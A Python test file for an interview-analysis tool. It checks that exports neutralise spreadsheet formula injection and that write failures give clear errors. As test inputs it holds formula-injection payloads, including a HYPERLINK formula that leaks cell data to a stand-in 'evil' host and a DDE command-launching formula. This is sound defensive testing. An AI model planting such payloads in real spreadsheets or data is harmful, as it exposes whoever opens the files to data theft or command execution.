"""Exports: no cell is ever a formula, and every write failure is one clear WriteError."""

from __future__ import annotations

import csv
import errno
import io
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from thematic import Project
from thematic.codebook import read_codebook_csv, write_codebook_csv
from thematic.errors import WriteError
from thematic.export import write_table
from thematic.export.tabular import escape_cell, unescape_cell
from thematic.fileio import write_atomic
from thematic.models import Code, Codebook

pytestmark = pytest.mark.filterwarnings("ignore::thematic.codebook.CodebookWarning")

EVIL = [
    '=HYPERLINK("http://evil/?leak="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]


def _frame() -> pd.DataFrame:
    return pd.DataFrame({"text": [*EVIL, "plain text"], "n": list(range(len(EVIL) + 1))})


def _csv_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def test_xlsx_cells_are_text_never_formulas(tmp_path: Path) -> None:
    out = tmp_path / "t.xlsx"
    write_table(_frame(), out)
    sheet_xml = zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    sheet = openpyxl.load_workbook(out).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [c.data_type for c in cells] == ["s"] * len(cells)
    assert [c.value for c in cells] == [*EVIL, "plain text"]  # the exact original text
    assert all(c.quotePrefix for c in cells[:-1]) and not cells[-1].quotePrefix


def test_csv_cells_get_an_apostrophe_and_unescape_back(tmp_path: Path) -> None:
    out = tmp_path / "t.csv"
    write_table(_frame(), out)
    rows = _csv_rows(out)[1:]
    texts = [r[0] for r in rows]
    assert all(t.startswith("'") for t in texts[:-1])
    assert texts[-1] == "plain text"
    assert [unescape_cell(t) for t in texts] == [*EVIL, "plain text"]
    assert [r[1] for r in rows] == [str(i) for i in range(len(EVIL) + 1)]  # numbers untouched


def test_escape_rule_is_reversible_and_leaves_numbers() -> None:
    for text in [*EVIL, "'", "''=x", "ok", ""]:
        assert unescape_cell(escape_cell(text)) == text
    assert escape_cell(-3) == -3 and escape_cell(None) is None


def test_project_exports_escape_transcript_text(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "P01.txt").write_text(
        "Interviewer: What happened?\nP01: =HYPERLINK(\"http://evil/?x=\"&A1,\"see\")\n"
        "Interviewer: And then?\nP01: @SUM(1) was all I said.\n", encoding="utf-8")
    with Project.create(tmp_path / "p.thematic") as project:
        project.documents.ingest([folder], actor="ana")
        project.exports.write("segments", tmp_path / "seg.xlsx", unit="turn")
        project.exports.write("segments", tmp_path / "seg.csv", unit="turn")
    assert "<f>" not in zipfile.ZipFile(tmp_path / "seg.xlsx").read("xl/worksheets/sheet1.xml").decode()
    sheet = openpyxl.load_workbook(tmp_path / "seg.xlsx").active
    header = [c.value for c in sheet[1]]
    texts = [row[header.index("text")].value for row in sheet.iter_rows(min_row=2)]
    assert '=HYPERLINK("http://evil/?x="&A1,"see")' in texts
    rows = _csv_rows(tmp_path / "seg.csv")
    col = rows[0].index("text")
    csv_texts = [r[col] for r in rows[1:]]
    assert "'=HYPERLINK(\"http://evil/?x=\"&A1,\"see\")" in csv_texts
    assert "'@SUM(1) was all I said." in csv_texts


def test_codebook_csv_escapes_names_and_round_trips(tmp_path: Path) -> None:
    book = Codebook([Code("evil", "=cmd|' -C calc'!A0", definition="+1 definition"),
                     Code("ok", "Fine", definition="plain")])
    out = tmp_path / "cb.csv"
    write_codebook_csv(book, out)
    rows = _csv_rows(out)
    assert rows[1][0] == "'=cmd|' -C calc'!A0" and rows[1][1] == "'+1 definition"
    back = read_codebook_csv(out)
    assert back.by_id()["evil"].name == "=cmd|' -C calc'!A0"
    assert back.by_id()["evil"].definition == "+1 definition"


# --------------------------------------------------------------------------- write errors
def _leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir())


def test_missing_folder_is_one_clear_error(tmp_path: Path) -> None:
    target = tmp_path / "nowhere" / "t.csv"
    with pytest.raises(WriteError, match=r"cannot write t\.csv: the folder .* does not exist.*another folder"):
        write_table(_frame(), target)
    assert not (tmp_path / "nowhere").exists()


def test_directory_as_target_is_one_clear_error(tmp_path: Path) -> None:
    (tmp_path / "out.xlsx").mkdir()
    with pytest.raises(WriteError, match=r"cannot write out\.xlsx: it is a folder, not a file"):
        write_table(_frame(), tmp_path / "out.xlsx")
    assert _leftovers(tmp_path) == ["out.xlsx"]


class _FullDisk(io.FileIO):
    """A file on a full disk: every write fails with ENOSPC."""

    def write(self, data) -> int:  # noqa: ANN001
        raise OSError(errno.ENOSPC, "No space left on device")


def _full_disk(fd: int, mode: str) -> io.FileIO:
    return _FullDisk(fd, mode)


def test_full_disk_leaves_nothing_and_keeps_the_old_file(tmp_path: Path) -> None:
    target = tmp_path / "t.csv"
    target.write_text("old\n")
    with pytest.raises(WriteError, match=r"cannot write t\.csv: the disk is full") as info:
        write_atomic(target, "secret transcript text\n" * 1000, opener=_full_disk)
    assert "secret" not in str(info.value)
    assert target.read_text() == "old\n"
    assert _leftovers(tmp_path) == ["t.csv"]


def test_full_disk_through_a_project_export(sample_project: Project, tmp_path: Path,
                                            monkeypatch: pytest.MonkeyPatch) -> None:
    import thematic.fileio

    monkeypatch.setattr(thematic.fileio, "_fdopen", _full_disk)
    out = tmp_path / "exports"
    out.mkdir()
    with pytest.raises(WriteError, match=r"^.*codings\.xlsx: cannot write codings\.xlsx: the disk is full") as info:
        sample_project.exports.write("codings", out / "codings.xlsx")
    text = str(info.value)
    assert "SELECT" not in text and len(text) < 300
    assert _leftovers(out) == []


def test_read_only_folder_is_one_clear_error(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import tempfile

    def refuse(*args, **kwargs):  # noqa: ANN002, ANN003, ANN202 - what a read-only folder does
        raise PermissionError(errno.EACCES, "Permission denied")

    monkeypatch.setattr(tempfile, "mkstemp", refuse)
    with pytest.raises(WriteError, match=r"cannot write t\.qdc: permission denied .*Choose another folder"):
        from thematic.codebook import write_qdc

        write_qdc(Codebook([Code("a", "A")]), tmp_path / "t.qdc")
    assert _leftovers(tmp_path) == []
